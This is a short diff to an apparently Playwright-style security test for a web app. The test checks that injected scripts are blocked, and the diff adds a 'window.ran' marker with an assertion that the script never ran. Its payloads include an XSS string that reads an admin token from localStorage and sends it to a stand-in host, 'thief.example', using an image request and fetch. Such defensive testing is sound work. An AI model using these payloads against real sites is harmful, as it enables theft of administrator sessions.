@@ -8,7 +8,7 @@ import { expect, openAs, test } from '../world.ts'
 const superUser = 'superuser@example.jp'
 const thief = 'https://thief.example'
 
-const steal = `new Image().src='${thief}/i?'+encodeURIComponent(localStorage.azas_admin_token);fetch('${thief}/f?'+encodeURIComponent(localStorage.azas_admin_token))`
+const steal = `window.ran=1;new Image().src='${thief}/i?'+encodeURIComponent(localStorage.azas_admin_token);fetch('${thief}/f?'+encodeURIComponent(localStorage.azas_admin_token))`
 const payloads = {
   'a script in the page': `<script>${steal}</script>`,
   'a script from elsewhere': `<script src="${thief}/s.js"></script>`,
@@ -55,6 +55,7 @@ for (const [name, markup] of Object.entries(payloads)) {
     await blocked
     await expect(page.getByRole('heading', { level: 1, name: pages.notice.word })).toBeVisible()
     expect(reached).toEqual([])
+    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
   })
 }
 
